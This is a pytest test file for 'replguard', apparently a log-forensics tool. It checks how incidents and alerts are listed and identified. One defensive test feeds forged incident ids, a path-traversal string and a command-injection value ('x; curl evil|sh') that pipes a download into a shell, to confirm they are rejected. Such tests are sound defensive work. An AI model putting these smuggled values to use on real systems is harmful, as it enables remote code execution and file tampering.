"""Which incidents there are, and which one is meant."""

import json

import pytest
from support import cases, logs

from replguard.errors import ReplguardError
from replguard.events import wire
from replguard.events.alert import Alert
from replguard.forensics import register
from replguard.forensics.register import Line
from replguard.log.reader import Fault


@pytest.fixture(scope="module")
def known(tmp_path_factory):
    """Give the incidents of a log with two."""
    place = tmp_path_factory.mktemp("known")
    return register.incidents(cases.made(place / "log", place / "state"), [])


def test_each_incident_is_told_by_its_worst_alert(known):
    """The one with the newest alert is the last; who has any that fires is firing."""
    other, mine = known
    assert (mine.id, mine.level, mine.message) == (cases.INCIDENT, "critical", "Agent ag copied llama, then served it.")
    assert mine.alerts == {"a1": "resolved", "b2": "firing"}
    assert mine.is_firing
    assert (mine.first, mine.last) == (cases.at(3), cases.at(22))
    assert (other.id, other.level) == (cases.OTHER, "low")


@pytest.mark.parametrize(
    ("given", "answer"),
    [
        (cases.INCIDENT, (cases.INCIDENT, None)),
        ("12345678", (cases.INCIDENT, None)),
        ("b", (cases.INCIDENT, "b2")),
        ("c3", (cases.OTHER, "c3")),
    ],
)
def test_an_id_or_its_beginning_is_enough(known, given, answer):
    """Of an incident or of an alert, as long as it is unique."""
    assert register.meant(known, given) == answer


@pytest.mark.parametrize(
    ("given", "says"),
    [("1234", "several ids begin with 1234"), ("nothing", cases.INCIDENT), ("", cases.OTHER), ("\x1b[2J", r"\x1b")],
)
def test_who_names_none_is_told_the_newest(known, given, says):
    """Or which ones begin so; what was given is shown without its control characters."""
    with pytest.raises(ReplguardError) as told:
        register.meant(known, given)
    assert says in str(told.value)
    assert "\x1b" not in str(told.value)


def test_a_log_without_alerts_says_so(tmp_path):
    """And where to name another."""
    folder = logs.made(tmp_path / "log", tmp_path / "state", "evidence", count=3)
    assert register.incidents(folder, []) == []
    with pytest.raises(ReplguardError, match="holds no alert: name the folder of another by --log"):
        register.meant([], "a1")


def test_what_is_no_alert_is_passed_over(tmp_path):
    """Lines that are torn, damaged or only look like one."""
    folder = cases.made(tmp_path / "log", tmp_path / "state")
    logs.plain(folder)
    path = next(iter(logs.segments(folder, "evidence")))
    path.write_bytes(path.read_bytes() + b'{"kind":"alert"}\n{"event":{"kind":"alert"}\n\xff"kind":"alert"\n')
    assert [each.id for each in register.incidents(folder, [])] == [cases.OTHER, cases.INCIDENT]


def test_lines_are_picked_with_their_place(tmp_path):
    """The segment and the line; what cannot be read is told."""
    folder = logs.made(tmp_path / "log", tmp_path / "state", "evidence", count=60)
    found = list(register.picked(folder, lambda line: b"/srv/data/file-7" in line))
    assert all(isinstance(each, Line) for each in found)
    assert found[0].segment == 1
    packed = next(path for path in logs.segments(folder, "evidence") if path.suffix == ".zst")
    packed.write_bytes(b"damaged")
    assert any(isinstance(each, Fault) for each in register.picked(folder, lambda _: False))


def hung_on(tmp_path, end, **values):
    """Return the incidents of a log before and after an alert with other values was written behind it by hand."""
    folder = cases.made(tmp_path / "log", tmp_path / "state")
    logs.plain(folder)
    before = register.incidents(folder, [])
    alert = next(json.loads(wire.encode(each)) for each in cases.records() if isinstance(each, Alert))
    alert["replguard"] |= values
    with list(logs.segments(folder, "evidence"))[-1].open("ab") as file:
        file.write(json.dumps(alert, separators=(",", ":")).encode() + end)
    return before, register.incidents(folder, [])


@pytest.mark.parametrize(
    "values",
    [
        {"incident": "x/../../pwned"},
        {"incident": "x; curl evil|sh"},
        {"incident": "forged", "first_seen": "2026-01-01T00:00:00"},
        {"incident": "forged", "last_seen": "soon"},
    ],
)
def test_what_nothing_here_wrote_is_no_incident(tmp_path, values):
    """Its id would become the name of a file and part of a command; its time could not be reckoned with."""
    before, after = hung_on(tmp_path, b"\n", **values)
    assert after == before


def test_half_a_line_is_no_record(tmp_path):
    """It was being written when the writer ended, or somebody hung it on: verify does not call a log changed for it."""
    before, after = hung_on(tmp_path, b"", incident="forged")
    assert after == before
    assert len(hung_on(tmp_path / "whole", b"\n", incident="forged")[1]) == len(before) + 1
